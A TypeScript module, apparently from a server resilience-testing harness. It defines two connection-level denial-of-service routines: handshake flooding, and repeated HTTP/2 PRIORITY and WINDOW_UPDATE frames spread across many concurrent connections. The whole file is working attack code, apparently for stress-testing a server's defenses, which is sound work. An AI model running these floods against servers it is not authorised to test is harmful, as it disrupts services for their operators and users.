/** Connections for their own sake: what a handshake costs the server is its most expensive answer. */
import { type Attack, crowd, type Siege } from "../attack.ts";
import { frame, number, openHttp2, push, types } from "../frames.ts";
import { letGo, NoConnection, openTls } from "../wire.ts";

async function greet(siege: Siege): Promise<void> {
  siege.tally.asked();
  try {
    const socket = await openTls(siege, { protocol: "h2" });
    siege.tally.answered("greeted");
    socket.destroy();
  } catch (error) {
    if (!(error instanceof NoConnection)) throw error;
    siege.tally.answered("no connection");
  }
}

/** Few frames on each of many connections: a bound of each is no bound of all. */
async function nudge(siege: Siege): Promise<void> {
  siege.tally.asked();
  try {
    const socket = await openHttp2(siege);
    const priority = frame(2, 0, 1, Buffer.from([0, 0, 0, 3, 255]));
    const windows = frame(types.windowUpdate, 0, 0, number(1));
    await push(socket, Buffer.concat(Array.from({ length: 40 }, () => [priority, windows]).flat()));
    letGo(siege, socket);
  } catch (error) {
    if (!(error instanceof NoConnection)) throw error;
    siege.tally.answered("no connection");
  }
}

export const handshakes: readonly Attack[] = [
  { name: "handshakes for nothing", run: (siege) => crowd(siege, 16, () => greet(siege)) },
  {
    name: "PRIORITY and WINDOW_UPDATE over many connections",
    run: (siege) => crowd(siege, 16, () => nudge(siege)),
  },
];
